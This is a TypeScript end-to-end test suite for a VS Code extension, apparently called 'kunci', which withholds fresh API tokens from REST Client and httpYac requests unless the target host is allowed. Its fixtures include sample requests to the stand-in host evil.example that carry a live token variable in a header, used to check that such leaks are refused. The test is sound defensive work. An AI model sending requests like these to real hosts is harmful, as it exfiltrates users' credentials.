import assert from 'node:assert/strict';
import { setTimeout as wait } from 'node:timers/promises';
import { until } from '../host/until';
import { workbench } from '../host/workbench';
import { call, codeOf, outletEntry, setClients, setSetting, storeSecrets, useBench } from './bench';
import { handed, installSender, plugins } from './fakeSenders';
import { openUntitled, reference, untilDecorated, untilPublished, variable } from './httpFilesBench';

const path = '/integrations/partner/v1/linked-outlets';
/** The discard port: nothing listens there. */
const nowhere = 'http://127.0.0.1:9';

describe('sending with a fresh token', () => {
  const bench = useBench();
  const text = (): string =>
    `### Outlets\nGET ${bench.sandbox.gobiz.url}${path}\nAuthorization: Bearer ${reference}\n\n### Evil\nGET https://evil.example/\nX: {{$processEnv GOBIZ_LIVE_TOKEN}}\n`;

  async function prepare(): Promise<void> {
    await workbench.reset();
    await storeSecrets(bench.sandbox);
    await setClients([
      outletEntry(bench.sandbox),
      outletEntry(bench.sandbox, { name: 'live', environment: 'production' }),
    ]);
    await workbench.writeFile('outlets.http', text());
  }

  function send(line: number): Promise<unknown> {
    return workbench.host.run(
      (vscode, [file, at]) => vscode.commands.executeCommand('kunci.sendRequest', `file://${file}`, at),
      [`${workbench.folder}/outlets.http`, line] as const,
    );
  }

  before(async () => {
    // No extension can be had from this gallery, wherever the test runs.
    await workbench.restart({ environment: { EXTENSIONS_GALLERY: JSON.stringify({ serviceUrl: nowhere }) } });
    await prepare();
  });
  after(() => workbench.leave());

  it('says that no sender is installed, and offers to', async () => {
    assert.equal(await codeOf(send(2)), 'sender-missing');
    await workbench.driver.openFile('outlets.http');
    await workbench.page.getByText('Send with fresh token').first().click();
    await workbench.driver.notifications().getByText('neither is installed').waitFor();
    await workbench.page.getByRole('button', { name: 'Install REST Client' }).waitFor();
    await workbench.driver.screenshot('http-sender-missing');
  });

  it('leads to the Extensions view where one cannot be installed', async () => {
    await workbench.driver.answerNotification('Install REST Client');
    await workbench.page.locator('.extensions-viewlet').getByText('humao.rest-client').first().waitFor();
    await workbench.driver.screenshot('http-sender-not-installable');
  });

  it('notices a sender in another extension host', async () => {
    await workbench.host.run((vscode) => {
      const world = globalThis as unknown as { kunciElsewhere?: { dispose(): void } };
      world.kunciElsewhere = vscode.commands.registerCommand('rest-client.request', () => undefined);
    });
    await assert.rejects(send(2), /REST Client runs in another extension host/);
    await workbench.host.run(() => {
      (globalThis as unknown as { kunciElsewhere?: { dispose(): void } }).kunciElsewhere?.dispose();
    });
  });

  it('refuses a host that may not have the token, and offers to allow it', async () => {
    assert.equal(await codeOf(send(6)), 'host-not-allowed');
    await workbench.driver.closeEverything();
    await workbench.driver.openFile('outlets.http');
    await untilDecorated(/until/, /withheld/);
    // A lens is drawn anew a moment after the state changed, and takes no click before.
    await wait(1000);
    await workbench.page.getByText('Send with fresh token').nth(1).click();
    await workbench.driver.answerNotification('Allow evil.example…');
    await workbench.driver.dialog().getByText('Allow evil.example to get the tokens').waitFor();
    await workbench.driver.screenshot('http-allow-host');
    await workbench.driver.answerDialog('Allow');
    await until(async () => {
      const allowed = await workbench.host.run(
        (vscode) =>
          vscode.workspace.getConfiguration('kunci').inspect<{ allowedHosts?: string[] }[]>('clients')
            ?.globalValue?.[1]?.allowedHosts,
      );
      return JSON.stringify(allowed) === '["evil.example"]';
    });
  });

  it('asks before a production token is used, then publishes it', async () => {
    await workbench.driver.closeEverything();
    await openUntitled(`GET ${bench.sandbox.gobiz.url}${path}\nX: {{$processEnv GOBIZ_LIVE_TOKEN}}\n`);
    await untilDecorated(/^production: confirm to use$/);
    assert.equal(await variable('GOBIZ_LIVE_TOKEN'), null);
    void call('confirmProductionUse', 'live');
    await workbench.driver.answerDialog('Yes, Production');
    await untilPublished('GOBIZ_LIVE_TOKEN');
    await untilDecorated(/until/);
  });

  it('hands over to REST Client, in the window and at the request, with the variable set only for it', async () => {
    await installSender('restClient');
    await workbench.driver.closeEverything();
    await setSetting('publish', 'whileSending');
    await handed();
    await send(2);
    const [one] = await handed();
    assert.equal(one?.command, 'rest-client.request');
    assert.equal(one?.line, 1);
    assert.match(one?.document ?? '', /outlets\.http$/);
    assert.match(one?.token ?? '', /^sbx_/);
    assert.equal(await variable(), null);
    await setSetting('publish', 'whileOpen');
  });

  it('stays in the editor that the person is in, where two show the file', async () => {
    await workbench.driver.openFile('outlets.http');
    await workbench.driver.runCommand('View: Split Editor Right');
    const column = (): Promise<number | undefined> =>
      workbench.host.run((vscode) => vscode.window.activeTextEditor?.viewColumn);
    await until(async () => (await column()) === 2);
    await send(2);
    assert.equal((await handed())[0]?.line, 1);
    assert.equal(await column(), 2);
    await workbench.driver.closeEverything();
  });

  it('says that REST Client failed, or that the file cannot be opened', async () => {
    const fails = (is: boolean): Promise<void> =>
      workbench.host.run((_vscode, value) => {
        (globalThis as unknown as { kunciFails: boolean }).kunciFails = value;
      }, is);
    await fails(true);
    await assert.rejects(send(2), /^HostError: REST Client did not send the request/);
    await fails(false);
    for (const nowhere of [`file://${workbench.folder}/nowhere.http`, 'nowhere.http']) {
      assert.equal(await codeOf(call('sendRequest', nowhere, 0)), 'unsignable');
      assert.equal(await codeOf(call('explainSignature', nowhere, 0)), 'unsignable');
    }
  });

  it('refuses to hand over to REST Client while another request would send the token elsewhere', async () => {
    await openUntitled(`GET https://evil.example/\nX: ${reference}\n`);
    await assert.rejects(send(2), /another request uses it/);
    assert.deepEqual(await handed(), []);
    await workbench.driver.closeEverything();
  });

  it('hooks into httpYac when it is installed later, and hands over to the one that is set', async () => {
    await workbench.driver.openFile('outlets.http');
    await installSender('httpYac');
    await until(async () => (await plugins()).includes('kunci'));
    await setSetting('sender', 'httpYac');
    await send(2);
    const [one] = await handed();
    assert.deepEqual([one?.command, one?.line], ['httpyac.send', 1]);
    await setSetting('sender', 'restClient');
    await send(2);
    assert.equal((await handed())[0]?.command, 'rest-client.request');
  });

  it('publishes nothing while httpYac sends, which has the hook, also from Markdown alone', async () => {
    await workbench.reload();
    await setSetting('publish', 'whileSending');
    await setSetting('sender', 'httpYac');
    const markdown = `# Outlets\n\n\`\`\`http\n${text().split('\n').slice(1, 3).join('\n')}\n\`\`\`\n`;
    await workbench.writeFile('outlets.md', markdown);
    await workbench.driver.closeEverything();
    await workbench.driver.openFile('outlets.md');
    await workbench.host.run(
      (vscode, [file, at]) => vscode.commands.executeCommand('kunci.sendRequest', `file://${file}`, at),
      [`${workbench.folder}/outlets.md`, 3] as const,
    );
    assert.deepEqual(await plugins(), ['core', 'kunci']);
    const [one] = await handed();
    assert.deepEqual([one?.command, one?.line, one?.token], ['httpyac.send', 3, null]);
    await setSetting('publish', 'whileOpen');
  });

  it('does nothing by itself in an untrusted workspace', async () => {
    await workbench.restart({ trust: true });
    await prepare();
    const requests = bench.tokenRequests();
    await workbench.driver.openFile('outlets.http');
    await untilDecorated(/untrusted/, /withheld|untrusted/);
    await wait(1000);
    assert.equal(await variable(), null);
    assert.equal(bench.tokenRequests(), requests);
    assert.equal(await codeOf(send(2)), 'untrusted-workspace');
    await call('fetchToken', 'outlet');
    assert.equal(await variable(), null);
    await workbench.driver.screenshot('http-untrusted');
  });
});
